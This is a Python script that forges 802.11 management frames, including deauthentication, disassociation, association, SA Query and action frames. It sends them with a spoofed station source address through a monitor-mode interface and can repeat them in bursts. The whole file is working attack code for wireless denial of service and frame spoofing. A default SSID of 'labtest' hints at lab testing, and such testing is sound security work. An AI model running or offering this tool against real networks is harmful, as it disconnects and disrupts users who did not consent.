#!/usr/bin/env python3
"""Frames in another's name, sent through a monitor interface: forge.py INTERFACE ACCESS_POINT STATION KIND... [xCOUNT]

Kinds: deauth, disassoc, auth, assoc, reassoc, saquery (a response to a question that nobody asked), spectrum (a robust action frame).
The association names the network of $SSID with WPA-PSK, CCMP and protected management frames.
"""
import os
import socket
import sys
import time

RADIOTAP = bytes([0, 0, 8, 0, 0, 0, 0, 0])


def address(text):
    return bytes.fromhex(text.replace(":", ""))


def elements():
    ssid = os.environ.get("SSID", "labtest").encode()
    rsne = bytes.fromhex("301a0100000fac040100000fac040100000fac0280000000000fac06")
    return bytes([0, len(ssid)]) + ssid + bytes([1, 8, 2, 4, 11, 22, 12, 18, 24, 36]) + bytes([50, 4, 48, 72, 96, 108]) + rsne


def body(kind, access_point):
    if kind in ("deauth", "disassoc"):
        return (0xC0 if kind == "deauth" else 0xA0), bytes([3, 0])
    if kind == "auth":
        return 0xB0, bytes([0, 0, 1, 0, 0, 0])
    if kind == "assoc":
        return 0x00, bytes([0x31, 4, 5, 0]) + elements()
    if kind == "reassoc":
        return 0x20, bytes([0x31, 4, 5, 0]) + access_point + elements()
    if kind == "saquery":
        return 0xD0, bytes([8, 1, 0, 0])
    if kind == "spectrum":
        return 0xD0, bytes([0, 0, 1])
    raise SystemExit("no such kind: " + kind)


def main():
    interface, access_point, station = sys.argv[1], address(sys.argv[2]), address(sys.argv[3])
    kinds, count = sys.argv[4:], 1
    if kinds[-1].startswith("x"):
        count = int(kinds.pop()[1:])
    air = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    air.bind((interface, 0))
    sequence = 100
    for _ in range(count):
        for kind in kinds:
            first, content = body(kind, access_point)
            sequence += 1
            header = bytes([first, 0, 0, 0]) + access_point + station + access_point + (sequence << 4 & 0xFFFF).to_bytes(2, "little")
            air.send(RADIOTAP + header + content)
            time.sleep(0.02)


main()
